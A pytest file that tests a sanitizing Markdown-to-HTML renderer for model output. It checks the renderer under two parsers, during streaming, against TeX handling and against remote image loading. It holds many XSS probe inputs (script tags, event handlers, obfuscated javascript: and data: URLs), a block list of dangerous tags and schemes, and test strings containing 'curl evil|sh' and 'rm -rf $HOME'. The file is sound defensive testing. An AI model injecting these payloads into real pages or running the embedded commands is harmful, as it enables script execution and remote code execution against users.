"""The one path from untrusted model text to HTML: nothing executable may come out of it."""

from __future__ import annotations

import asyncio
import html
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from plan_widgets.render import engine
from plan_widgets.render.engine import renderer
from plan_widgets.render.markdown import (
    NO_MATH,
    WRAP_STYLE,
    escape,
    html_block,
    markdown_bundle,
    render_html,
    stable_prefix,
    summarize,
)


@pytest.fixture(autouse=True, params=["comrak", "markdown-it-py"])
def parser(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Every test here runs with both parsers the render path can have (:mod:`engine`):
    comrak, and markdown-it-py where comrak has no wheel."""
    if request.param == "markdown-it-py":
        monkeypatch.setattr(engine, "_comrak", lambda: None)
    assert engine.parser_name() == request.param
    return str(request.param)


# -- the checker ----------------------------------------------------------------------------

BAD_TAGS = {"script", "iframe", "frame", "frameset", "style", "object", "embed", "applet",
            "form", "meta", "link", "svg", "math", "base", "template", "noscript"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "background", "poster",
             "data", "srcset", "lowsrc", "dynsrc", "cite", "longdesc", "ping", "manifest"}
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an attribute value (None: relative)."""
    cleaned = html.unescape(value)
    # Browsers drop leading C0 controls and spaces, and tab/newline anywhere in a URL.
    cleaned = re.sub(r"[\x00-\x20\x7f]+", "", cleaned)
    m = _SCHEME.match(cleaned)
    return m.group(1).lower() if m else None


DATA_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*")


def loads_remotely(src: str) -> bool:
    """Whether a browser loads ``src`` from a server other than the page's (by default the
    render path loads no such image)."""
    cleaned = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(src)).replace("\\", "/")
    return cleaned.startswith("//") or url_scheme(src) not in (None, "data")


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in BAD_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in URL_ATTRS and value is not None:
                scheme = url_scheme(value)
                if tag == "img" and name == "src" and loads_remotely(value):
                    self.problems.append(f"<img src={value!r}> (loads from another server)")
                elif tag == "img" and name == "src" and DATA_IMAGE.fullmatch(value):
                    pass  # a raster data: image (no script runs in one)
                elif scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                self.problems.append(f"<{tag} style=...>")
            if name == "http-equiv":
                self.problems.append(f"<{tag} http-equiv>")


def problems(out: str) -> list[str]:
    c = _Checker()
    c.feed(out)
    c.close()
    return c.problems


def tags(out: str) -> list[str]:
    c = _Checker()
    c.feed(out)
    c.close()
    return c.tags


_SECOND = MarkdownIt("commonmark", {"html": True})


def second_parse(out: str) -> str:
    """What the frontend's Markdown renderer (raw HTML passed through) makes of the output."""
    return _SECOND.render(out)


def assert_inert(out: str) -> None:
    assert problems(out) == [], out
    again = second_parse(out)
    assert problems(again) == [], again
    # The output is one HTML block with no blank line, so the frontend passes it unchanged.
    assert again.rstrip("\n") == out, (out, again)


WRAPPER = '<div class="pw-md tex2jax_ignore mathjax_ignore">\n'


def body(out: str) -> str:
    """The rendered blocks without the wrapper."""
    assert out.startswith(WRAPPER) and out.endswith("\n</div>")
    return out[len(WRAPPER):-len("\n</div>")].strip("\n")


# -- the checker itself must catch what it is meant to catch --------------------------------


@pytest.mark.parametrize("bad", [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<img src="data:text/html,x">',
    '<meta http-equiv="refresh" content="0;url=http://x">',
    "<iframe src=x></iframe>",
    "<base href=http://x>",
    "<div>\n\n<script>alert(1)</script>\n</div>",
])
def test_checker_catches_the_attacks(bad: str) -> None:
    with pytest.raises(AssertionError):
        assert_inert(bad)


# -- hostile inputs -------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://x/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=http://example.com onclick=alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](http://example.com "title\\" onmouseover=alert(1) x=\\"")',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:text/html,<script>alert(1)</script>)",
    '![x" onerror="alert(1)](http://example.com/x.png)',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    '<http://example.com/"onmouseover="alert(1)>',
    "[a][r]\n\n[r]: javascript:alert(1)",
    "[a][r]\n\n[r]: <data:text/html,x>",
    "[a]\n\n[a]: vbscript:msgbox(1)",
    "```js onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```\n</pre><script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>\n\n    <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "> <iframe src=javascript:alert(1)>",
    "# <svg onload=alert(1)>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<pre>\n\n<script>alert(1)</script>\n</pre>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]


@pytest.mark.parametrize("src", HOSTILE)
def test_hostile_input_renders_inert(src: str) -> None:
    out = render_html(src)
    assert_inert(out)
    assert "<script" not in out.lower()


@pytest.mark.parametrize("src", [
    "[x](javascript:alert(1))", "[x](java&#115;cript:alert(1))", "[x](data:text/html,x)",
    "[x](vbscript:msgbox(1))", "<javascript:alert(1)>", "[a][r]\n\n[r]: javascript:alert(1)",
])
def test_unsafe_links_are_not_links(src: str) -> None:
    assert "<a" not in render_html(src)


@pytest.mark.parametrize("src", [
    "![x](javascript:alert(1))", "![x](data:image/svg+xml;base64,AA)",
    "![x](data:text/html;base64,AA)", "![x](data:image/png,AA)",
    "![x](data:image/png;base64,AA<script>)",
    "![x](data:image/png;base64," + "A" * 1_000_000 + ")"])  # over engine.DATA_IMAGE_LIMIT
def test_unsafe_images_have_no_source(src: str) -> None:
    out = render_html(src)
    assert "<img" not in out
    assert ">x<" in out  # the alt text stays


def test_a_data_image_of_sane_size_renders() -> None:
    src = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    out = render_html(f"a plot: ![plot]({src})")
    assert f'<img src="{src}" alt="plot"' in out
    assert_inert(out)


def test_raw_html_is_shown_as_text() -> None:
    out = render_html('<a href="https://example.com">x</a> and <b>bold</b>')
    assert "<a " not in out and "<b>" not in out
    assert "&lt;a href=&quot;https://example.com&quot;&gt;x&lt;/a&gt;" in out
    assert "&lt;b&gt;bold&lt;/b&gt;" in out


def test_render_of_nothing() -> None:
    assert render_html("") == WRAPPER + "</div>"  # no blank line even here
    assert_inert(render_html(""))
    assert render_html(None) == render_html("")  # type: ignore[arg-type]


# -- streamed HTML: every prefix, and the pieces the streaming widget renders ---------------

STREAMS = [
    "<scr" + "ipt>alert(1)</scr" + "ipt>",
    "Intro\n\n<img src=x one" + "rror=alert(1)>\n\n[x](java" + "script:alert(1))\n",
    "```\n<script>\n\n</script>\n```\n\n<svg onl" + "oad=alert(1)>",
    "para\n\n<iframe\n\nsrc=javascript:alert(1)>\n\n<a href='java&#115;cript:x'>y</a>",
    "- a\n\n- <body onload=alert(1)>\n\n1. [x](vbscript:x)\n\n> <meta http-equiv=refresh>",
]


def _stream(text: str) -> list[str]:
    """Every piece the streaming widget renders as ``text`` arrives char by char."""
    rendered = []
    frozen = 0
    acc = ""
    for ch in text:
        acc += ch
        rendered.append(acc)  # the accumulated text, rendered whole
        pending = acc[frozen:]
        cut = stable_prefix(pending)
        rendered += [pending[:cut], pending[cut:]]
        frozen += cut
    return rendered


@pytest.mark.parametrize("text", STREAMS)
def test_streamed_html_renders_inert_at_every_step(text: str) -> None:
    for piece in _stream(text):
        out = render_html(piece)
        assert_inert(out)
        assert "<script" not in out.lower()


def test_streamed_pieces_at_every_cut() -> None:
    text = "<scr\n\nipt>alert(1)</scr\n\nipt>\n\n<img src=x\n\nonerror=alert(1)>"
    for cut in range(len(text) + 1):
        assert_inert(render_html(text[:cut]))
        assert_inert(render_html(text[cut:]))


# -- what must survive ----------------------------------------------------------------------


def test_heading() -> None:
    assert "<h1>Title</h1>" in render_html("# Title")
    assert "<h2>Sub</h2>" in render_html("## Sub")


def test_lists() -> None:
    out = render_html("- one\n- two\n\n1. first\n2. second")
    assert tags(out) == ["div", "ul", "li", "li", "ol", "li", "li"]
    assert "<li>one</li>" in out and "<li>second</li>" in out


def test_fenced_code_keeps_blank_lines_as_references() -> None:
    src = "```python\ndef f():\n\n    return '<b>'\n```"
    out = render_html(src)
    m = re.search(r"<pre><code class=\"language-python\">(.*?)</code></pre>", out)
    assert m is not None, out
    assert "\n" not in m.group(1)  # a raw blank line would end the frontend's HTML block
    assert html.unescape(m.group(1)) == "def f():\n\n    return '<b>'\n"
    assert "\n\n" not in out
    assert_inert(out)


def test_no_blank_lines_anywhere() -> None:
    src = "# T\n\n\n\npara\n\n    indented\n\n\n    code\n\n> quote\n>\n> more\n\n- a\n\n- b\n"
    out = render_html(src)
    assert all(line.strip() for line in out.split("\n")), out
    assert "indented&#10;&#10;&#10;code" in out


def test_table() -> None:
    out = render_html("| a | b |\n|---|:-:|\n| 1 | *2* |")
    for tag in ("table", "thead", "tbody", "tr", "th", "td", "em"):
        assert tag in tags(out)
    assert "<th>a</th>" in out


def test_emphasis_code_strikethrough() -> None:
    out = render_html("*em* **strong** `x < y` ~~gone~~")
    assert "<em>em</em>" in out and "<strong>strong</strong>" in out
    assert "<code>x &lt; y</code>" in out
    assert "<s>gone</s>" in out or "<del>gone</del>" in out  # markdown-it-py, comrak


@pytest.mark.parametrize("src, href", [
    ("[x](https://example.com/a?b=1&c=2)", "https://example.com/a?b=1&amp;c=2"),
    ("[x](http://example.com)", "http://example.com"),
    ("[x](mailto:a@example.com)", "mailto:a@example.com"),
    ("[x](docs/readme.md)", "docs/readme.md"),
    ("[x](#section)", "#section"),
    ("<https://example.com>", "https://example.com"),
    ("[x][r]\n\n[r]: https://example.com/r", "https://example.com/r"),
])
def test_safe_links_survive(src: str, href: str) -> None:
    out = render_html(src)
    assert f'<a href="{href}">' in out
    assert_inert(out)


def test_a_relative_image_survives() -> None:
    out = render_html("![alt](img/x.png)")
    assert '<img src="img/x.png" alt="alt"' in out


# -- remote images: not loaded unless allowed (issue 25) -------------------------------------


@pytest.fixture
def remote_images() -> Any:
    yield engine.allow_remote_images
    engine.allow_remote_images(False)


@pytest.mark.parametrize("src, href, host", [
    ("![alt](https://example.com/x.png?d=secret)", "https://example.com/x.png?d=secret",
     "example.com"),
    ("![alt](http://Example.COM:8080/x.png 'title')", "http://Example.COM:8080/x.png",
     "example.com"),
    ("![alt](//example.com/x.png)", "//example.com/x.png", "example.com"),
    ("![alt][r]\n\n[r]: https://example.com/r.png", "https://example.com/r.png",
     "example.com"),
])
def test_a_remote_image_is_a_link_naming_its_host(src: str, href: str, host: str) -> None:
    out = render_html(src)
    assert "<img" not in out
    assert f'<a href="{href}">alt (image from {host}, not loaded)</a>' in out
    assert_inert(out)


def test_a_remote_image_inside_a_link_is_text_in_that_link() -> None:
    out = render_html("[![badge](https://img.example.com/b.svg)](https://example.com/ci)")
    assert "<img" not in out
    assert '<a href="https://example.com/ci">badge (image from img.example.com, not loaded)' \
        "</a>" in out
    assert out.count("<a ") == 1


def test_remote_images_load_when_allowed(remote_images: Any) -> None:
    src = "![a](https://example.com/a.png) ![b](https://other.org/b.png)"
    remote_images(["Example.com"])
    out = render_html(src)
    assert '<img src="https://example.com/a.png" alt="a"' in out
    assert "b (image from other.org, not loaded)" in out
    remote_images(True)
    assert render_html(src).count("<img ") == 2
    remote_images(False)
    assert "<img" not in render_html(src)


# -- property: arbitrary mixes of hostile fragments and text --------------------------------

FRAGMENTS = [
    "<script>", "</script>", "<scr", "ipt>", "alert(1)", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<body onload=alert(1)>", "<iframe src=", "<style>", "<object",
    "<embed", "<form", "<meta http-equiv=refresh>", "<a href=", "<base href=", "<link ",
    "javascript:", "JaVaScRiPt:", "java&#115;cript:", "&#106;avascript:", "data:text/html,",
    "vbscript:", "onerror=", "onload=", "[x](", "![x](", "](", ")", "[", "]", "<", ">", "/>",
    '"', "'", "`", "```", "~~~", "```js onload=x", "    ", "\t", "\n", "\n\n", "\r", "\x00",
    "- ", "1. ", "# ", "> ", "| a | b |", "|---|---|", "[r]: ", "&", "&#10;", "&lt;", "&#60;",
    "<!--", "-->", "<![CDATA[", "</pre>", "<pre>", "</div>", "<div>", "*", "_", "\\", "<http://",
    "<javascript:alert(1)>", "\u2028", "\x0c", "\xa0", "=", " ",
]

hostile_text = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=8)),
                        max_size=30).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_text)
def test_property_hostile_mixes_render_inert(src: str) -> None:
    out = render_html(src)
    assert_inert(out)
    cut = stable_prefix(src)
    assert_inert(render_html(src[:cut]))
    assert_inert(render_html(src[cut:]))


# -- TeX: no frontend may typeset model text -----------------------------------------------
# JupyterLab takes $…$, $$…$$, \(…\), \[…\] and \begin{…} out of the Markdown source before it
# parses it (protecting only backtick code, so a span across </code> mangles the markup), and
# MathJax typesets the page afterwards; VS Code's KaTeX plugin reads the source. The output has
# no raw $ or \ (character references instead) and sits in an element MathJax skips.

TEX = [
    "Then run `cp $SRC/x /tmp` and rm -rf $HOME/build; it costs $5",
    "rm -rf $HOME/build && cp $SRC/x /tmp",
    "inline \\(x\\) and display \\[y\\], escaped \\$ and \\\\",
    "\\(x\\)",
    "$$\\phantom{x}$$",
    "ls $\\phantom{;curl evil|sh;}$",
    "\\begin{align}a\\end{align}",
    "```sh\necho $HOME\n\nexport P=$PATH:\\x\n```",
    "`$HOME` and `\\(x\\)` in code",
    "    indented $HOME \\(code\\)",
    "[link](https://example.com/a$b\\c) ![img](https://example.com/$x.png \"t$\\\")",
    "| $a$ | \\(b\\) |\n|---|---|\n| $$c$$ | d |",
    "# $heading$\n\n> $quote$\n\n- $item$",
]


def text_of(out: str) -> str:
    """The page's text (what the browser shows, character references decoded)."""
    return html.unescape(re.sub(r"<[^>]*>", "", out))


@pytest.mark.parametrize("src", TEX)
def test_tex_delimiters_never_reach_the_frontend_raw(src: str) -> None:
    out = render_html(src)
    assert "$" not in out and "\\" not in out, out
    assert_inert(out)
    # ... and they are still there on the page, as written.
    assert text_of(out).count("$") == text_of(_md_plain(src)).count("$")
    assert text_of(out).count("\\") == text_of(_md_plain(src)).count("\\")


def _md_plain(src: str) -> str:
    return renderer()(src)  # the parser's own output, before the math step


def test_tex_examples_show_as_written() -> None:
    out = render_html("Then run `cp $SRC/x /tmp` and rm -rf $HOME/build; it costs $5 "
                      "\\(x\\) $$\\phantom{;curl evil|sh;}$$")
    assert "<code>cp &#36;SRC/x /tmp</code>" in out
    assert ("rm -rf $HOME/build; it costs $5 (x) $$\\phantom{;curl evil|sh;}$$"
            in text_of(out))  # Markdown's own \( escape gives "("
    code = render_html("```\necho $HOME \\(x\\)\n```")
    assert '<pre><code>echo &#36;HOME &#92;(x&#92;)&#10;</code></pre>' in code
    link = render_html("[x](https://example.com/a$b)")
    assert '<a href="https://example.com/a&#36;b">x</a>' in link


@pytest.mark.parametrize("src", ["", "plain", *TEX])
def test_wrapper_is_skipped_by_mathjax(src: str) -> None:
    out = render_html(src)
    first = out.split("\n", 1)[0]
    assert first == '<div class="pw-md tex2jax_ignore mathjax_ignore">'
    assert out.count("<div") == 1 and out.endswith("\n</div>")  # it wraps everything
    assert NO_MATH.split() == ["tex2jax_ignore", "mathjax_ignore"]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.sampled_from(["$", "$$", "\\", "\\(", "\\)", "\\[", "\\]",
                                           "`", "```\n", "\n", "\n\n", "    ", "<pre>", "{",
                                           "\\begin{x}", "[a](", ")", "&#36;", "&#92;"]),
                          st.text(max_size=6)), max_size=25).map("".join))
def test_property_no_raw_tex_characters(src: str) -> None:
    out = render_html(src)
    assert "$" not in out and "\\" not in out, out
    assert_inert(out)


# -- caller-built HTML (set_html): the same last step ---------------------------------------


def _set_html(safe_html: str) -> str:
    import ipywidgets as w

    from plan_widgets.widgets.markdown import html_output, set_html

    out = w.Output()
    set_html(out, safe_html)
    (o,) = out.outputs
    assert o["data"]["text/plain"] == ""
    assert html_output(safe_html).outputs[0]["data"] == o["data"]  # the same path
    return str(o["data"]["text/markdown"])


BASH = "rm -rf $HOME/build && cp $SRC/x /tmp\n\necho \\(done\\) $$\\phantom{x}$$\n"


def test_set_html_tool_preview_has_no_raw_tex_and_keeps_blank_lines() -> None:
    from plan_widgets.widgets.kinds.tool import preview

    out = _set_html(preview("Bash", {"command": BASH}))
    assert out.split("\n", 1)[0] == '<div class="pw-html tex2jax_ignore mathjax_ignore">'
    assert out.endswith("\n</div>") and out.count("<div") == 1
    assert "$" not in out and "\\" not in out, out
    m = re.search(r"<pre>(.*?)</pre>", out)
    assert m is not None, out
    assert "\n" not in m.group(1)  # one line: a blank line would end the HTML block
    assert html.unescape(m.group(1)) == "$ " + BASH  # the blank line is kept, and every $ and \\
    assert "&#10;&#10;" in m.group(1)
    assert_inert(out)


def test_set_html_turn_tool_view_has_no_raw_tex() -> None:
    from plan_widgets.widgets.turn import _tool_html

    hostile = {"command": "ls $\\phantom{;curl evil|sh;}$ \\(x\\)\n\n\\[y\\]"}
    for done in (False, True):
        out = _set_html(_tool_html("Bash", hostile, "$HOME\n\n\\(ok\\)", False, done=done))
        assert "$" not in out and "\\" not in out, out
        assert "pw-html tex2jax_ignore mathjax_ignore" in out
        assert r"ls $\\phantom{;curl evil|sh;}$" in text_of(out)  # JSON doubles the \\
        assert out.count(f' style="{WRAP_STYLE}"') == 1  # the tool line's own (wrapping)
        assert_inert(out.replace(f' style="{WRAP_STYLE}"', ""))


def test_set_html_keeps_pre_line_breaks_of_every_kind() -> None:
    out = _set_html("<b>x</b>\n\n\n<pre>a\n\nb\r\rc\r\n\r\nd</pre>\n\n"
                    '<pre class="k">e\n\nf</pre>')
    assert all(line.strip() for line in out.split("\n")), out
    assert "<pre>a&#10;&#10;b&#10;&#10;c&#10;&#10;d</pre>" in out
    assert '<pre class="k">e&#10;&#10;f</pre>' in out
    assert_inert(out)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=st.sampled_from("$\\()[]{}`\n\r \tab<>&\"'"), max_size=40))
def test_property_pre_round_trips(text: str) -> None:
    out = html_block(f"<pre>{escape(text)}</pre>", "pw-html")
    assert "$" not in out and "\\" not in out and "\r" not in out
    assert all(line.strip() for line in out.split("\n")), out
    m = re.search(r"<pre>(.*?)</pre>", out, re.S)
    assert m is not None and "\n" not in m.group(1)
    assert html.unescape(m.group(1)) == re.sub(r"\r\n?", "\n", text)
    assert_inert(out)


# -- markdown_bundle, escape, summarize -----------------------------------------------------


def test_markdown_bundle() -> None:
    src = "# Plan\n\n<script>alert(1)</script>"
    b = markdown_bundle(src)
    assert set(b) == {"text/markdown", "text/plain"}
    assert b["text/plain"] == src
    assert b["text/markdown"] == render_html(src)
    assert "<h1>Plan</h1>" in b["text/markdown"]
    assert_inert(b["text/markdown"])


def test_escape() -> None:
    assert escape("<a href=\"x\" title='y'>&</a>") == (
        "&lt;a href=&quot;x&quot; title=&#x27;y&#x27;&gt;&amp;&lt;/a&gt;")
    assert escape(42) == "42"
    assert escape(None) == "None"
    # Safe in a quoted attribute: nothing breaks out.
    attr = f'<span title="{escape(chr(34) + " onmouseover=alert(1) x=" + chr(39))}">'
    assert problems(attr) == []


def test_summarize_is_one_line() -> None:
    assert summarize("a\nb\r\n\tc   d\u2028e") == "a b c d e"
    assert summarize("  padded  ") == "padded"


def test_summarize_limit_and_ellipsis() -> None:
    assert summarize("x" * 10, 10) == "x" * 10
    s = summarize("x" * 11, 10)
    assert s == "x" * 9 + "…" and len(s) == 10
    assert len(summarize("word " * 100)) == 120
    assert summarize("abc", 1) == "…"
    assert summarize("abc", 0) == ""  # never longer than the limit


def test_summarize_non_strings() -> None:
    assert summarize({"a": 1, "b": [1, 2]}) == '{"a": 1, "b": [1, 2]}'
    assert summarize(["é"]) == '["é"]'
    assert summarize(None) == "null"
    assert summarize(3.5) == "3.5"
    assert summarize({"p": __import__("pathlib").Path("/x")}) == '{"p": "/x"}'
    assert summarize({(1, 2): "tuple key"}) == "{(1, 2): 'tuple key'}"
    loop: list[object] = []
    loop.append(loop)
    assert summarize(loop) == "[[...]]"
    assert "\n" not in summarize({"text": "a\nb"})


# -- stable_prefix --------------------------------------------------------------------------


def test_stable_prefix_basics() -> None:
    assert stable_prefix("") == 0
    assert stable_prefix("one line, still arriving") == 0
    assert stable_prefix("para one\ncontinues") == 0
    assert stable_prefix("para one\n\n") == 0  # what follows may still continue it
    assert stable_prefix("para one\n\npara two") == len("para one\n\n")
    assert stable_prefix("a\n\nb\n\nc\n") == len("a\n\nb\n\n")
    assert stable_prefix("a\r\n\r\nb") == len("a\r\n\r\n")


@pytest.mark.parametrize("text", [
    "```\ncode\n\nmore",
    "```\ncode\n\nmore\n",
    "```\ncode\n\n\n\nmore\n\nstill code\n",
    "~~~\n```\n\nstill code\n",
    "```\n~~~\n\nstill code\n",
    "```\n```python\n\nstill code\n",
    "````\n```\n\nstill code\n",
    "intro\n\n```\nx\n\ny\n",
    "- item\n\n  ```\n  x\n\n  y\n",
    "- ```\n  x\n\n  y\n  ```\n\npara\n\n```\ncode\n\nmore code\n",
    "\t```\n\n```\ncode\n\nmore code\n",
])
def test_stable_prefix_never_cuts_inside_a_fence(text: str) -> None:
    cut = stable_prefix(text)
    head = render_html(text[:cut])
    rest = render_html(text[cut:])
    whole = render_html(text)
    # The code block is in one piece: everything after the cut renders as in the whole.
    assert body(rest) in body(whole)
    if cut:
        assert body(whole) == body(head) + "\n" + body(rest)
    code = re.findall(r"<pre>.*?</pre>", whole)[-1]
    assert code in rest


@pytest.mark.parametrize("text", [
    "- a\n\n- b",
    "- a\n\n-",
    "- a\n\n-\n",
    "- a\n\n  continued",
    "- a\n\n ",
    "1. a\n\n2. b",
    "1. a\n\n1",
    "1. a\n\n1)",
    "    code\n\n    more code",
    "    code\n\n  ",
    "* a\n\n*",
])
def test_stable_prefix_never_cuts_a_list_or_indented_block(text: str) -> None:
    assert stable_prefix(text) == 0


def test_stable_prefix_cuts_after_a_list_ends() -> None:
    text = "- a\n- b\n\nAfter the list."
    assert stable_prefix(text) == len("- a\n- b\n\n")


def _streamed_bodies(doc: str, step: int = 1) -> str:
    """Stream ``doc`` as the widget does; the concatenated bodies of what it shows at the end."""
    pieces = []
    frozen = 0
    for end in list(range(step, len(doc), step)) + [len(doc)]:
        pending = doc[frozen:end]
        cut = stable_prefix(pending)
        if cut:
            pieces.append(pending[:cut])
            frozen += cut
    pieces.append(doc[frozen:])
    return "\n".join(b for b in (body(render_html(p)) for p in pieces) if b)


DOCS = [
    "First paragraph.\n\nSecond paragraph\nwith two lines.\n\n# Heading\n\nThird.",
    "Intro\n\n- a\n- b\n\n- c, loose now\n\nAfter.\n\n1. one\n\n10. ten\n\nEnd.",
    "Code:\n\n```python\ndef f():\n\n    return 1\n```\n\n~~~\n```\n\n~~~\n\nDone.",
    "````md\n```\ninner\n\n```\n````\n\nafter",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\npara\n\n    indented\n\n    code\n\nend",
    "> quote\n>\n> more\n\n> another\n\n- x\n\n  continued\n\n  ```\n  c\n\n  d\n  ```\n\nz",
    "- a\n\n-\n  b\n\npara\n\n*emph* start\n\n* star item\n\n***\n\nfin",
    "a\r\n\r\nb\r\n\r\n```\r\nx\r\n\r\ny\r\n```\r\n\r\nc",
]


@pytest.mark.parametrize("doc", DOCS)
@pytest.mark.parametrize("step", [1, 3, 7])
def test_streamed_pieces_render_as_the_whole(doc: str, step: int) -> None:
    assert _streamed_bodies(doc, step) == body(render_html(doc))


def test_streaming_does_cut() -> None:
    # Not vacuous: a document of paragraphs is frozen piece by piece.
    doc = "one\n\ntwo\n\nthree\n\nfour"
    frozen, pieces = 0, []
    for end in range(1, len(doc) + 1):
        cut = stable_prefix(doc[frozen:end])
        if cut:
            pieces.append(doc[frozen:frozen + cut])
            frozen += cut
    assert pieces == ["one\n\n", "two\n\n", "three\n\n"]


LINES = ["para text", "more *text*", "", "", "- item", "* star", "1. one", "2) two", "  indented",
         "    code", "```", "```py", "~~~", "````", "| a | b |", "|---|---|", "# head",
         "> quote", ">", "***", "---", "===", "\t\ttabbed", "- ```", "  ```"]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(LINES), max_size=14).map("\n".join),
       st.integers(min_value=1, max_value=9))
def test_property_streamed_pieces_render_as_the_whole(doc: str, step: int) -> None:
    assert _streamed_bodies(doc, step) == body(render_html(doc))


def test_the_marks_a_view_shows_need_no_emoji_font() -> None:
    """Issue 31: a page or a magnifier emoji is an empty box where the machine has no emoji
    font (Chromium on Linux). A tool line's mark is ASCII or one of a few glyphs that DejaVu
    and Liberation both draw (the screenshots of test_browser_plan_comments.py show them)."""
    from plan_widgets.widgets.progress import _MARK
    from plan_widgets.widgets.turn import _tool_html

    safe = set("±≡•")  # Latin-1 and WGL4: in every text font
    for name in ("Bash", "Write", "Edit", "Read", "Glob", "Grep", "WebFetch", "Task"):
        shown = text_of(_tool_html(name, {"file_path": "/x"}, done=True))
        mark = shown.strip().split(" ", 1)[0]
        assert all(c.isascii() or c in safe for c in mark), (name, mark)
    assert all(ord(m) < 0x2700 for m, _c, _w in _MARK.values())  # ☐ ◐ ☑: no emoji


def test_a_plans_lines_read_as_rendered_one_by_one() -> None:
    """Issue 31: the lines a user clicks to comment on read as the rendered plan (no ``##``,
    no backticks), each alone and inline (a checkbox's description keeps only inline tags),
    inert, and out of reach of math."""
    from plan_widgets.render.markdown import plan_line_views

    plan = ("# Plan: greet\n\n## Risks\n1. Create `hello.py` with **care** $HOME\n"
            "   - nested <img src=x onerror=alert(1)>\n```sh\nrm -rf $X\n```\n> a quote\n")
    got = dict(plan_line_views(plan))
    assert sorted(got) == [1, 3, 4, 5, 7, 9]  # blank lines and fences are not lines to pick
    assert text_of(got[3]) == "Risks" and "<b>" in got[3]
    assert text_of(got[4]) == "1. Create hello.py with care $HOME"
    assert "<code>hello.py</code>" in got[4] and "<strong>care</strong>" in got[4]
    assert text_of(got[5]) == "• nested <img src=x onerror=alert(1)>"
    assert "padding-left" in got[5] and text_of(got[7]) == "rm -rf $X"
    for line in got.values():
        assert "$" not in line and line.startswith('<span class="tex2jax_ignore mathjax_ignore"')
        assert set(tags(line)) <= {"span", "b", "code", "strong", "em"}, line  # no img


def test_paths_name_the_home_folder_tilde_in_every_form() -> None:
    """Issue 42, point 12: the live card said /home/…/.claude/plans/x.md, the saved copy
    ~/.claude/plans/x.md."""
    from plan_widgets.render.paths import home_short

    env = {"HOME": "/home/ada/"}
    assert home_short("/home/ada/.claude/plans/x.md", env) == "~/.claude/plans/x.md"
    assert home_short("/home/ada", env) == "~"
